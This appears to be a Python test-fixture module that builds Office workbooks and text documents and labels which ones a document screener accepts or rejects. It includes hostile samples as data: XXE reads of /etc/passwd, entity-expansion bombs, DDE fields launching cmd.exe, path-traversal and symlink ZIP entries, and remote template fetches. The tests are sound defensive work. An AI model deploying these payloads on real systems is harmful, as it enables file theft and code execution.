"""Office files as their programs write them, part by part, and what is passed off as one."""

import io
import zipfile
from collections.abc import Mapping

from tests.documents.corpus.case import ACCEPTED, a
from tests.documents.corpus.others import DOCX, EICAR, HTML, MHT, XLSX, zipped
from tests.documents.corpus.papers import text_pdf

LIST, LETTER = "packing list.xlsx", "letter.docx"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
LOCKED = OLE + "EncryptedPackage".encode("utf-16-le") + b"\0" * 400
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

ENTITY = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">]>'

Parts = Mapping[str, str | bytes]


def packed(parts: Parts, *, how: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The parts as a ZIP."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def rels(*links: tuple[str, str, str], leaves: bool = False) -> str:
    """A list of relationships: (key, last word of the type, target)."""
    mode = ' TargetMode="External"' if leaves else ""
    lines = (
        f'<Relationship Id="{key}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>' for key, kind, target in links
    )
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{space}">{"".join(lines)}</Relationships>'


def types(main: str, kind: str, more: str = "") -> str:
    """The list of content types."""
    xml = "".join(
        f'<Default Extension="{ending}" ContentType="{said}"/>'
        for ending, said in (
            ("xml", "application/xml"),
            ("rels", "application/vnd.openxmlformats-package.relationships+xml"),
            ("png", "image/png"),
            ("vml", "application/vnd.openxmlformats-officedocument.vmlDrawing"),
        )
    )
    space = "http://schemas.openxmlformats.org/package/2006/content-types"
    return f'<Types xmlns="{space}">{xml}<Override PartName="/{main}" ContentType="{kind}.main+xml"/>{more}</Types>'


def xlsx(sheet: str = "", more: Parts | None = None, *, kind: str = XLSX, sheets: str = "") -> bytes:
    """A workbook with one sheet; `more` adds parts or takes their places, `sheets` names further ones in the book."""
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    book = f'<sheet name="Packing list" sheetId="1" r:id="s1"/>{sheets}'
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": types("xl/workbook.xml", kind),
        "_rels/.rels": rels(("r1", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": f'<workbook {space} xmlns:r="{OFFICE}"><sheets>{book}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": rels(
            ("s1", "worksheet", "worksheets/sheet1.xml"),
            ("s2", "worksheet", "worksheets/sheet2.xml"),
            ("t", "sharedStrings", "/xl/sharedStrings.xml"),
            ("f", "styles", "styles.xml"),
        ),
        "xl/sharedStrings.xml": f"<sst {space}><si><t>Lot</t></si><si><r><t>organic </t></r><r><t>green coffee</t></r>"
        "<rPh><t>reading</t></rPh></si></sst>",
        "xl/styles.xml": f'<styleSheet {space}><numFmts><numFmt numFmtId="170" formatCode="0000000000"/>'
        '<numFmt numFmtId="171" formatCode="[Red]0.0&quot;d&quot;"/><numFmt numFmtId="172" formatCode="dd/mm/yyyy"/>'
        '</numFmts><cellStyleXfs><xf numFmtId="14"/></cellStyleXfs><cellXfs><xf numFmtId="0"/><xf numFmtId="170"/>'
        '<xf numFmtId="171"/><xf numFmtId="172"/><xf numFmtId="22"/><xf numFmtId="10"/></cellXfs></styleSheet>',
        "xl/worksheets/sheet1.xml": f"<worksheet {space}><sheetData>{sheet or ROWS}</sheetData></worksheet>",
        "xl/worksheets/sheet2.xml": f"<worksheet {space}><sheetData>{ROWS}</sheetData></worksheet>",
    }
    return packed(parts | dict(more or {}))


ROWS = (
    '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="C1" t="s"><v>1</v></c></row>'
    '<row r="3"><c r="A3" t="inlineStr"><is><t>VV-26-118</t></is></c><c r="C3"><v>19080.000000000004</v></c></row>'
)


def docx(body: str = "", more: Parts | None = None, *, kind: str = DOCX, links: str = "") -> bytes:
    """A text document; `more` adds parts or takes their places, `links` is the list of what its main part links to."""
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": types("word/document.xml", kind),
        "_rels/.rels": rels(("r1", "officeDocument", "word/document.xml")),
        "word/document.xml": f"<w:document {space}><w:body>{body or LINES}</w:body></w:document>",
        "word/_rels/document.xml.rels": links or rels(("h", "header", "header1.xml"), ("g", "header", "header2.xml")),
        "word/header1.xml": f"<w:hdr {space}>{line('Cooperativa Valle Verde')}</w:hdr>",
        "word/header2.xml": f"<w:hdr {space}>{line('Cooperativa Valle Verde')}</w:hdr>",
    }
    return packed(parts | dict(more or {}))


def line(text: str) -> str:
    """A paragraph."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


LINES = line("We ship organic green coffee.") + f"<w:tbl><w:tr><w:tc>{line('Net')}</w:tc><w:tc>{line('19,080 kg')}</w:tc></w:tr></w:tbl>"  # fmt: skip


def field(code: str, inner: str = "", rest: str = "") -> str:
    """A field as Word writes it, its code in pieces, between which another field may stand."""
    first, second, last = (f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (code[:3], code[3:], rest))
    pieces = first + second + inner + last
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{pieces}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def twice() -> bytes:
    """Two parts of one name: one program reads the first, another the last."""
    data = xlsx(more={"xl/worksheets/sheet9.xml": "<a/>"})
    return data.replace(b"xl/worksheets/sheet9.xml", b"xl/Worksheets/Sheet1.xml")


def linked() -> bytes:
    """A part that is a link in the file system."""
    out = io.BytesIO(xlsx())
    with zipfile.ZipFile(out, "a") as archive:
        entry = zipfile.ZipInfo("xl/media/image1.png")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


def flipped() -> bytes:
    """One wrong bit in what is packed."""
    data = bytearray(xlsx())
    data[100] ^= 1
    return bytes(data)


def encrypted() -> bytes:
    """Entries that are locked as a ZIP's are, not as an office program's."""
    data = bytearray(xlsx())
    place = data.rindex(b"PK\x01\x02")
    data[place + 8] |= 1
    return bytes(data)


def odd_name() -> bytes:
    """A part that is XML only by its type."""
    return _typed("word/header3.dat", DOCX.rpartition(".")[0] + ".header+xml", f"{ENTITY}<a/>")


def _typed(part: str, kind: str, data: str | bytes) -> bytes:
    """A text document with one more part, of a declared type."""
    listed = types("word/document.xml", DOCX, f'<Override PartName="/{part}" ContentType="{kind}"/>')
    return docx(more={"[Content_Types].xml": listed, part: data})


def _with(part: str, data: str | bytes = "<a/>", made: str = "xlsx") -> bytes:
    return (xlsx if made == "xlsx" else docx)(more={part: data})


def _formula(code: str) -> bytes:
    return xlsx(f'<row r="1"><c r="A1"><f>{code}</f><v>1</v></c></row>')


def _macro(kind: str) -> str:
    return types("xl/workbook.xml", XLSX, f'<Override PartName="/xl/x.bin" ContentType="{kind}"/>')


LAUGHS = '<!DOCTYPE a [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>'
IMAGE = '<pict><imagedata src="http://x.example/a.gif"/></pict>'
LINKS = "word/_rels/document.xml.rels"

OFFICE_CASES = [
    a(91, "archive named xlsx", zipped, "unreadable", LIST, XLSX),
    a(91, "archive declared as one", xlsx, ACCEPTED, LIST, "application/zip"),
    a(91, "bomb in a part", lambda: _with("xl/theme/theme1.xml", b" " * (20 << 20)), "unpacks", LIST, XLSX),
    a(91, "entries without end", lambda: xlsx(more={f"xl/{n}.xml": "<a/>" for n in range(2_000)}), "unpacks", LIST, XLSX),
    a(91, "part that leaves its folder", lambda: _with("../../etc/cron.d/x"), "unreadable", LIST, XLSX),
    a(91, "part with a path of its own", lambda: _with("/etc/passwd"), "unreadable", LIST, XLSX),
    a(91, "part with a drive", lambda: _with("C:x.xml"), "unreadable", LIST, XLSX),
    a(91, "link as a part", linked, "unreadable", LIST, XLSX),
    a(91, "one name twice", twice, "unreadable", LIST, XLSX),
    a(91, "unusual packing", lambda: packed({"a.xml": "<a/>"}, how=zipfile.ZIP_LZMA), "unreadable", LIST, XLSX),
    a(91, "truncated XLSX", lambda: xlsx()[:-100], "unreadable", LIST, XLSX),
    a(91, "flipped bit", flipped, "unreadable", LIST, XLSX),
    a(91, "locked entries", encrypted, "password", LIST, XLSX),
    a(91, "something in front", lambda: b"PK\x03\x04" + xlsx(), "two_in_one", LIST, XLSX),
    a(91, "something behind", lambda: xlsx() + b"\0" * 30, "two_in_one", LIST, XLSX),
    a(91, "web archive between its parts", lambda: between(MHT), "two_in_one", LIST, XLSX),
    a(92, "workbook", xlsx, ACCEPTED, LIST, XLSX),
    a(92, "workbook declared as an old one", xlsx, ACCEPTED, "LIST.XLSX", "application/vnd.ms-excel"),
    a(92, "workbook named docx", xlsx, "misnamed", LETTER, DOCX),
    a(92, "workbook with an address to press", lambda: _hyperlink("https://valle.example/coffee"), ACCEPTED, LIST, XLSX),
    a(92, "workbook with a mail address to press", lambda: _hyperlink("mailto:ventas@valle.example"), ACCEPTED, LIST, XLSX),
    a(92, "workbook with a path to press", lambda: _hyperlink("file://server/share/x.xlsx"), "active", LIST, XLSX),
    a(92, "workbook with another computer to press", lambda: _hyperlink(r"\\server\share"), "active", LIST, XLSX),
    a(92, "workbook with a script to press", lambda: _hyperlink("javascript:alert(1)"), "active", LIST, XLSX),
    a(92, "empty workbook", lambda: xlsx("<row r='1'><c r='A1' s='3'/></row>"), "no_pages", LIST, XLSX),
    a(92, "workbook of pictures", lambda: xlsx("<row/>", {"xl/media/1.png": b"x"}), "only_pictures", LIST, XLSX),
    a(92, "workbook with macros", lambda: _with("xl/vbaProject.bin", OLE), "active", LIST, XLSX),
    a(92, "macros of another name", lambda: _with("[Content_Types].xml", _macro("application/vnd.ms-office.vbaProject")), "active", LIST, XLSX),
    a(92, "xlsm named xlsx", lambda: xlsx(kind="application/vnd.ms-excel.sheet.macroEnabled"), "active", LIST, XLSX),
    a(92, "xlsm", lambda: xlsx(kind="application/vnd.ms-excel.sheet.macroEnabled"), "office", "list.xlsm", ""),
    a(92, "template named xlsx", lambda: xlsx(kind=XLSX.replace("sheet", "template", 2)), "office", LIST, XLSX),
    a(92, "old workbook", OLE, "office", "list.xls", "application/vnd.ms-excel"),
    a(92, "old workbook named xlsx", OLE, "office", LIST, XLSX),
    a(92, "workbook with a password", LOCKED, "password", LIST, XLSX),
    a(92, "old macro sheet", lambda: _with("xl/macrosheets/sheet1.xml"), "active", LIST, XLSX),
    a(92, "control", lambda: _with("xl/activeX/activeX1.bin", b"x"), "active", LIST, XLSX),
    a(92, "link to another workbook", lambda: _with("xl/externalLinks/externalLink1.xml"), "active", LIST, XLSX),
    a(92, "link to a database", lambda: _with("xl/worksheets/_rels/sheet1.xml.rels", rels(("q", "queryTable", "../q.xml"))), "active", LIST, XLSX),
    a(92, "workbook in a workbook", lambda: _with("xl/embeddings/a.xlsx", xlsx()), "attachments", LIST, XLSX),
    a(92, "formula that fetches", lambda: _formula('_xlfn.WEBSERVICE("https://x.example")'), "active", LIST, XLSX),
    a(92, "program that nothing links to", lambda: _with("xl/setup.exe", b"MZ"), "attachments", LIST, XLSX),
    a(92, "archive in a picture's folder", lambda: _with("xl/media/a.zip", zipped()), "attachments", LIST, XLSX),
    a(92, "folder that a packer lists", lambda: _with("xl/", b""), ACCEPTED, LIST, XLSX),
    a(92, "formula that starts a program", lambda: _formula("cmd|'/C calc'!A0"), "active", LIST, XLSX),
    a(92, "program started by a name", lambda: _with("xl/a.xml", "<a><definedName>cmd|'/C calc'!A0</definedName></a>"), "active", LIST, XLSX),
    a(92, "bar and call in the text of a formula", lambda: _formula('"Lots | please call (office)"&amp;A1'), ACCEPTED, LIST, XLSX),
    a(92, "formula with a share to press", lambda: _formula(r'HYPERLINK("\\host\share","x")'), "active", LIST, XLSX),
    a(92, "formula with a share put together", lambda: _formula(r'HYPERLINK("\"&amp;"\host","x")'), "active", LIST, XLSX),
    a(92, "formula with a script to press", lambda: _formula('HYPERLINK("javascript:x","x")'), "active", LIST, XLSX),
    a(92, "formula with places to press", lambda: _formula('HYPERLINK("#A1:B2","Lot: 5")&amp;HYPERLINK(A1)'), ACCEPTED, LIST, XLSX),
    a(92, "cell with a text before the first", lambda: xlsx('<row><c t="s"><v>-1</v></c></row>'), "unreadable", LIST, XLSX),
    a(92, "cell without its text", lambda: xlsx('<row><c t="s"><v>9</v></c></row>'), "unreadable", LIST, XLSX),
    a(92, "number that is none", lambda: xlsx("<row><c><v>many</v></c></row>"), "unreadable", LIST, XLSX),
    a(92, "workbook of 201 sheets", lambda: xlsx(sheets='<sheet name="n" sheetId="2" r:id="s2"/>' * 200), "too_many_pages", LIST, XLSX),
    a(93, "text document", docx, ACCEPTED, LETTER, DOCX),
    a(93, "text document without a declared type", docx, ACCEPTED, LETTER, ""),
    a(93, "text document named xlsx", docx, "misnamed", LIST, XLSX),
    a(93, "text document declared as HTML", docx, "type", LETTER, "text/html"),
    a(93, "HTML named docx", HTML, "type", LETTER, DOCX),
    a(93, "PDF named docx", text_pdf, "misnamed", LETTER, DOCX),
    a(93, "text document with a password", LOCKED, "password", LETTER, DOCX),
    a(93, "old text document", OLE, "office", "letter.doc", "application/msword"),
    a(93, "template from elsewhere", lambda: _with("word/_rels/settings.xml.rels", rels(("t", "attachedTemplate", "https://x.example/a.dotm"), leaves=True), "docx"), "active", LETTER, DOCX),
    a(93, "picture from elsewhere", lambda: docx(links=rels(("i", "image", "https://x.example/a.png"), leaves=True)), "active", LETTER, DOCX),
    a(93, "other text inside", lambda: docx(links=rels(("x", "aFChunk", "a.html"))), "attachments", LETTER, DOCX),
    a(93, "object inside", lambda: docx(links=rels(("x", "oleObject", "a.bin"))), "attachments", LETTER, DOCX),
    a(93, "test virus inside", lambda: _with("word/embeddings/eicar.com", EICAR, "docx"), "attachments", LETTER, DOCX),
    a(93, "field that starts a program", lambda: docx(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')), "active", LETTER, DOCX),
    a(93, "field that fetches", lambda: docx('<w:p><w:fldSimple w:instr="INCLUDEPICTURE x"/></w:p>'), "active", LETTER, DOCX),
    a(93, "field that starts a macro", lambda: docx(field("MACROBUTTON Run press")), "active", LETTER, DOCX),
    a(93, "field that is put together", lambda: docx(field("DD", field("QUOTE 65"), "E a b")), "active", LETTER, DOCX),
    a(93, "field with a share to press", lambda: docx(field(r'HYPERLINK "\\\\host\\share"')), "active", LETTER, DOCX),
    a(93, "field with a share after a bookmark", lambda: docx(field(r'HYPERLINK \l "a" \\\\host\\share')), "active", LETTER, DOCX),
    a(93, "field with a bookmark called link", lambda: docx(LINES + field(r"REF link \h")), ACCEPTED, LETTER, DOCX),
    a(93, "field with a tip that looks like a path", lambda: docx(LINES + field(r'HYPERLINK "https://x.example" \o "C:\a"')), ACCEPTED, LETTER, DOCX),
    a(93, "field in a comment", lambda: _with("word/comments.xml", f"<w:a xmlns:w='w'>{field('DDE a b')}</w:a>", "docx"), "active", LETTER, DOCX),
    a(93, "web page that nothing links to", lambda: _typed("word/a.html", "text/html", "<script>"), "attachments", LETTER, DOCX),
    a(93, "old drawing with a picture from elsewhere", lambda: docx(LINES + IMAGE), "active", LETTER, DOCX),
    a(93, "letters to many out of a database", lambda: _with("word/settings.xml", "<a><mailMerge/></a>", "docx"), "active", LETTER, DOCX),
    a(93, "field with an address to press", lambda: docx(LINES + field('HYPERLINK "https://x.example/LINK"')), ACCEPTED, LETTER, DOCX),
    a(94, "entity that reads a file", lambda: _with("word/document.xml", f"{ENTITY}<a>&f;</a>", "docx"), "active", LETTER, DOCX),
    a(94, "entity in a part that nobody reads", lambda: _with("customXml/item1.xml", f"{ENTITY}<a/>", "docx"), "active", LETTER, DOCX),
    a(94, "entity in a part of an odd name", odd_name, "active", LETTER, DOCX),
    a(94, "entity in an old drawing", lambda: _with("xl/drawings/a.vml", f"{ENTITY}<a><br></a>"), "active", LIST, XLSX),
    a(94, "old drawing that fetches", lambda: _with("xl/drawings/a.vml", '<xml><br><v:fill src="&#104;ttp://x.example/a"></xml>'), "active", LIST, XLSX),
    a(94, "old drawing as Excel writes it", lambda: _with("xl/drawings/a.vml", "<xml><!-- c --><![if x]><br></xml>"), ACCEPTED, LIST, XLSX),
    a(94, "entities that grow", lambda: _with("xl/sharedStrings.xml", LAUGHS), "active", LIST, XLSX),
    a(94, "part that is no XML", lambda: _with("word/document.xml", "<w:p>", "docx"), "unreadable", LETTER, DOCX),
]  # fmt: skip


def between(data: bytes) -> bytes:
    """Foreign bytes between the last part and the list of parts, where no program of ours looks."""
    plain = xlsx()
    at = plain.index(b"PK\x01\x02")
    end = bytearray(plain[-22:])
    end[16:20] = (at + len(data)).to_bytes(4, "little")
    return plain[:at] + data + plain[at:-22] + bytes(end)


def _hyperlink(target: str) -> bytes:
    return _with("xl/worksheets/_rels/sheet1.xml.rels", rels(("h", "hyperlink", target), leaves=True))
